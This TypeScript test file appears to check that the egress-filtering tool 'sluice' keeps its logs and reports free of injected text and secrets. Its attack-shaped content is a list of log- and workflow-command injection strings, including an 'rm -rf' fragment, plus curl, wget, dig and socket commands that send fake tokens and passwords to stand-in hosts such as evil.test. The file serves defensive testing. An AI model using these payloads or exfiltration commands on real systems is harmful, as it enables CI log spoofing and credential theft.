/** Rows 105, 106, 108, 109: what a job can do to the words that we write. */
import { execFileSync } from "node:child_process"
import { mkdirSync, readFileSync, writeFileSync } from "node:fs"
import { dirname, join } from "node:path"
import t, { type Test } from "tap"
import type { Lab } from "../../lab/internet.ts"
import { canary, labFor, readEvents, whyNoLab } from "./harness.ts"
import { machineState, settled } from "./started.ts"

t.setTimeout(300_000)
const skip = whyNoLab() ?? false

/** Everything that one run wrote. */
interface Written {
  readonly status: number
  readonly stdout: string
  readonly stderr: string
  readonly log: string
  readonly text: string
  readonly json: string
  /** What `sluice report` makes of the log, as text and as JSON. */
  readonly later: string
}

let runs = 0

async function written(lab: Lab, allow: string, command: readonly string[]): Promise<Written> {
  const directory = join(lab.directory, `report-${++runs}`)
  mkdirSync(directory)
  const [policy, events] = [join(directory, "p.yml"), join(directory, "e.jsonl")]
  const text = join(directory, "report.txt")
  writeFileSync(policy, `mode: block\nallow: [${allow}]\n`)
  const options = ["--policy", policy, "--events", events, "--report", text]
  const argv = lab.guarded(options, command)
  const { status, stdout, stderr } = await lab.run(argv, { timeoutMs: 60_000 })
  const main = argv.slice(0, argv.indexOf("run"))
  const report = async (format: string): Promise<string> =>
    (await lab.run([...main, "report", events, "--format", format])).stdout
  const json = await report("json")
  return {
    ...{ status, stdout, stderr, json },
    log: readFileSync(events, "utf8"),
    text: readFileSync(text, "utf8"),
    later: await report("text"),
  }
}

/** Every line is one event of ours, and none is missing. */
function isSound(t: Test, log: string): void {
  const lines = log.trimEnd().split("\n")
  const events = lines.map((line) => JSON.parse(line) as { seq: number; kind: string; v: number })
  t.strictSame(
    events.map(({ seq }) => seq),
    lines.map((_, index) => index + 1),
    "no gap",
  )
  t.equal(events.filter(({ kind }) => kind === "run-ended").length, 1, "it ends once")
  // eslint-disable-next-line no-control-regex
  t.notMatch(log, /[^\x20-\x7e\n]/, "plain characters only")
}

/** Nothing that a terminal or a workflow would obey. */
function isHarmless(t: Test, text: string, what: string): void {
  // eslint-disable-next-line no-control-regex
  t.notMatch(text, /[\0-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069]/u, what)
  t.notMatch(text, /^\s*(::|##\[)/m, `${what}: no workflow command`)
}

const nasty = [
  `\\n{"v":1,"kind":"run-ended","seq":9}`,
  `\\r\\n::error::owned`,
  `\\x1b[31mred\\x1b[0m\\x1b]0;title\\x07`,
  `"',"decision":"allow`,
  `\\xe2\\x80\\xae reversed \\xe2\\x81\\xa6`,
  `\\x9b31m\\xff\\xfe`,
  `::add-mask::x`,
  `##[command]x`,
  `\\u2028'; rm -rf`,
]

/** Sends every nasty text by every way that reaches a log. */
const injecting = `
import os, socket, struct, subprocess, sys
texts = [${nasty.map((text) => `b'''${text}'''`).join(", ")}]
def tcp(address, port, *parts):
    try:
        with socket.create_connection((address, port), 2) as s:
            s.settimeout(1)
            for part in parts: s.sendall(part)
            s.recv(99)
    except OSError: pass
for text in texts:
    labels = bytes([len(text)]) + text + b"\\4evil\\4test\\0"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.sendto(struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + labels + struct.pack(">HH", 1, 1), ("203.0.113.66", 53))
        try: s.recv(999)
        except OSError: pass
    tcp("198.51.100.66", 80, b"GET /x HTTP/1.1\\r\\nHost: " + text + b"\\r\\n\\r\\n")
    tcp("198.51.100.10", 80, b"GET /" + text + b" HTTP/1.1\\r\\nHost: evil.test\\r\\nUser-Agent: " + text + b"\\r\\n\\r\\n")
    tcp("198.51.100.10", 80, text + b" / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n")
    name = b"name\\0\\0" + struct.pack(">H", len(text)) + text
    tcp("198.51.100.66", 443, text)
    try:
        path = os.path.join(sys.argv[1].encode(), text.replace(b"/", b"_").replace(b"\\0", b"_"))
        os.symlink("/usr/bin/curl", path)
        subprocess.run([path, "-s", "-m", "2", "http://198.51.100.66:8080/", b"-A", text])
        os.unlink(path)
        copy = path + b"-copy"
        subprocess.run(["cp", "/usr/bin/curl", copy]); subprocess.run([copy, "-s", "-m", "2", "http://198.51.100.66:8081/"])
        os.unlink(copy)
    except OSError as error: print(error)
`

t.test("reports", { skip, timeout: 280_000 }, async (t) => {
  const lab = await labFor(t, {})
  await settled(lab)

  await t.test("rows 105 and 106: texts of the job stay texts", async (t) => {
    const directory = join(lab.directory, "odd")
    mkdirSync(directory)
    const command = ["/usr/bin/python3", "-c", injecting, directory, "\n::error::x", "\x1b[31m"]
    const result = await written(lab, '"allowed.test:80"', command)
    t.equal(result.status, 0, result.stdout)
    isSound(t, result.log)
    t.ok(result.log.split("\n").length > 40, "there was something to tell")
    isHarmless(t, result.stderr, "the summary")
    t.ok(
      result.stderr
        .trimEnd()
        .split("\n")
        .every((line) => line.startsWith("sluice: ")),
      "every line is led by our name",
    )
    isHarmless(t, result.text, "the report")
    isHarmless(t, result.later, "sluice report")
    // eslint-disable-next-line no-control-regex
    t.notMatch(result.json, /[^\x20-\x7e\n]/, "JSON in plain characters")
    t.notMatch(result.json, /##\[/)
    t.match(JSON.parse(result.json), Object)
  })

  await t.test("row 108: no secret in anything that a run writes", async (t) => {
    const secrets = {
      github: `ghp_${"Ab1".repeat(12)}`,
      fine: `github_pat_${"11ABCDEFG0".repeat(2)}_${"a1B2c3D4".repeat(7)}abc`,
      password: "correct-horse-battery",
      bearer: "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlLXZhbHVl",
      query: "query-value-4711",
      aws: "AKIAIOSFODNN7EXAMPLE",
      npm: `npm_${"Zz9".repeat(12)}`,
      cookie: "session-8f2e1c",
      label: `ghs${"a1b2".repeat(10)}`,
    }
    const { github, password, bearer, query, aws, npm, cookie } = secrets
    const script = `
curl -s -m 2 -H "Authorization: Bearer ${bearer}" -H "Cookie: id=${cookie}" "http://198.51.100.66:8080/p?token=${query}&x=${query}"
curl -s -m 2 -u "me:${password}" "http://198.51.100.10/${github}/x" -H "Host: evil.test"
curl -s -m 2 "http://me:${password}@198.51.100.66:8080/"
curl -s -m 2 "http://allowed.test/path/${npm}/y?access_token=${query}" --data "password=${password}"
curl -s -m 2 "http://allowed.test/" -H "Host: ${github.replaceAll("_", "-")}.evil.test"
wget -q -T 2 -t 1 --password=${password} --header "PRIVATE-TOKEN: ${cookie}" http://198.51.100.66:8082/
dig +tries=1 +time=1 ${github}.evil.test
sh -c 'curl -s -m 2 http://198.51.100.66:8083/; : ${aws} ${secrets.fine}'
python3 -c 'import socket; t="${npm}"; socket.create_connection(("198.51.100.66", 8084), 2)'
`
    const result = await written(lab, '"allowed.test:80"', ["bash", "-c", script])
    const all = [result.stderr, result.log, result.text, result.json, result.later].join("\n")
    t.ok(result.log.split("\n").length > 10, "there was something to tell")
    for (const [name, secret] of Object.entries(secrets)) {
      const at = all.toLowerCase().indexOf(secret.toLowerCase())
      t.equal(at, -1, `${name}: ${all.slice(Math.max(0, at - 80), at + 20)}`)
    }
  })

  await t.test("row 109: the summary of a flood stays short", async (t) => {
    const names = `
import socket
for n in range(3000):
    try: socket.getaddrinfo("n%d-%s.evil.test" % (n, "x" * 40), 80, family=2)
    except OSError: pass
`
    const result = await written(lab, '"allowed.test:80"', ["python3", "-c", names])
    t.ok(result.log.split("\n").length > 3_000, "the log tells all")
    t.ok(result.stderr.length < 16_384, `the summary: ${result.stderr.length} characters`)
    t.ok(result.text.length < 1 << 20, `the report: ${result.text.length} characters`)
    isSound(t, result.log)
  })

  await t.test("row 109: a full disk under the log stops no enforcement", async (t) => {
    const small = join(lab.directory, "small")
    mkdirSync(small)
    execFileSync("mount", ["-t", "tmpfs", "-o", "size=128k", "none", small])
    t.teardown(() => execFileSync("umount", [small]))
    const before = machineState(lab)
    const [events, policy] = [join(small, "e.jsonl"), join(lab.directory, "small.yml")]
    writeFileSync(policy, 'mode: block\nallow: ["allowed.test:80"]\n')
    const word = canary()
    const job = `
import socket
for n in range(2500):
    try: socket.getaddrinfo("n%d-${word}.evil.test" % n, 80, family=2)
    except OSError: pass
try: socket.create_connection(("198.51.100.66", 4444), 2).send(b"${word}")
except OSError: pass
s = socket.create_connection(("allowed.test", 80), 5)
s.sendall(b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"); print(s.recv(15))
`
    const options = ["--policy", policy, "--events", events]
    const argv = lab.guarded(options, ["python3", "-c", job])
    const { status, stdout, stderr } = await lab.run(argv, { timeoutMs: 60_000 })
    t.equal(status, 0, stderr)
    t.match(stdout, /200/, "what is allowed is served")
    t.strictSame(await lab.seen(word), [], "the canary never left")
    const told = readEvents(events)
    const last = told.at(-1)
    t.match(last, { kind: "run-ended", lost: Number })
    t.ok(last?.kind === "run-ended" && last.lost > 1_000, "losses are counted")
    isSound(t, readFileSync(events, "utf8"))
    t.match(stderr, /\d+ (events|lines)|lost/, "and the summary says so")
    t.equal(machineState(lab), before, "the machine is as it was")
    t.ok(dirname(events) === small)
  })
})
